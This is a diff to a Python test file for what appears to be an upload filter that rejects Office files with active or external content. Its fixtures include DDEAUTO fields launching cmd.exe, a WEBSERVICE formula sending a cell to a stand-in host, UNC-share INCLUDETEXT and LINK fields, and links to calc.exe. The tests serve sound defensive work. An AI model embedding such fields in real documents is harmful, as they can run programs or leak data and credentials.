@@ -298,6 +298,21 @@ ACTIVE: dict[str, dict[str, bytes | Callable[[bytes], bytes]]] = {
     "a page of the web": {"xl/worksheets/sheet1.xml": formula('_xlfn.WEBSERVICE("http://elsewhere.example/"&amp;A1)')},
     "a program in a document's field": {"word/document.xml": b"<w:p><w:instrText xml:space='preserve'> DDE</w:instrText><w:instrText>AUTO c:\\cmd.exe </w:instrText></w:p>"},
     "a program in a simple field": {"word/document.xml": b'<w:fldSimple w:instr=" DDEAUTO c:\\cmd.exe "/>'},
+    "a picture from elsewhere in a field": {"word/document.xml": b'<w:fldChar w:fldCharType="begin"/><w:instrText> INCLUDE</w:instrText><w:instrText>PICTURE "http://elsewhere.example/a.png" </w:instrText>'},
+    "a text from a share": {"word/document.xml": b'<w:instrText> PAGE </w:instrText><w:fldChar/><w:instrText> INCLUDETEXT "\\\\\\\\elsewhere\\\\a.docx" </w:instrText>'},
+    "a sheet from elsewhere in a field": {"word/header1.xml": b'<w:fldSimple w:instr=" LINK Excel.Sheet.12 a.xlsx "/>'},
+    "a share behind a field to follow": {"word/document.xml": b'<w:instrText> HYPERLINK "\\\\\\\\elsewhere\\\\s" </w:instrText>'},
+    "a page for a part": {"word/document.xml": b'<w:body><w:altChunk r:id="rId9"/></w:body>', "word/page.html": b"<html/>"},
+    "a page for a part by its relation": {RELS: related("aFChunk", "afchunk.mht")},
+    "a workbook on a share": {"xl/worksheets/sheet1.xml": formula("'\\\\elsewhere\\s\\[b.xlsx]S'!A1")},
+    "a workbook on a disk": {"xl/worksheets/sheet1.xml": formula("SUM('C:\\s\\[b.xlsx]S'!A1:A9)")},
+    "a file behind a formula to follow": {"xl/worksheets/sheet1.xml": formula('HYPERLINK("file:///c:/windows/calc.exe","见")')},
+    "a file behind a link": {RELS: related("hyperlink", "file:///c:/windows/calc.exe", ' TargetMode="External"')},
+    "a share behind a link": {RELS: related("hyperlink", "%5c%5celsewhere\\s", ' TargetMode="External"')},
+    "a disk behind a link": {RELS: related("hyperlink", "c:\\windows\\calc.exe", ' TargetMode="External"')},
+    "a macro sheet that nothing names": {"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"},
+    "a control that nothing names": {"xl/activeX/activeX1.xml": b"<ax:ocx/>"}, "an extension of the web": {"xl/webextensions/webextension1.xml": b"<we:webextension/>"},
+    "buttons of its own": {"customUI/customUI14.xml": b"<customUI/>"}, "buttons by their relation": {RELS: related("ui/extensibility", "x.xml")},
     "UTF-16": {RELS: lambda t: related("oleObject", "o.bin")(t).decode().encode("utf-16")},
 }  # fmt: skip
 
@@ -364,6 +379,11 @@ def test_a_plain_workbook_with_a_link_to_follow_is_taken(people: People) -> None
     link = related("hyperlink", "http://example.org/", ' TargetMode="External"')
     content = repacked(sheet(UNITS), **{RELS: link})
     assert kind_of("u.xlsx", content) == "xlsx"
+    for target in ("附件1.docx", "mailto:office@example.org", "#Sheet1!A1"):
+        beside = related("hyperlink", target, ' TargetMode="External"')
+        assert kind_of("u.xlsx", repacked(sheet(UNITS), **{RELS: beside})) == "xlsx"
+    fields = b'<w:fldChar/><w:instrText> HYPERLINK "http://example.org/link" \\l "database" </w:instrText><w:fldChar/><w:instrText> TOC \\o "1-3" </w:instrText>'
+    assert kind_of("u.xlsx", repacked(sheet(UNITS), **{"word/footer1.xml": fields})) == "xlsx"
     old = io.BytesIO()
     with zipfile.ZipFile(old, "w") as archive:
         archive.writestr("记录.doc", OLE)
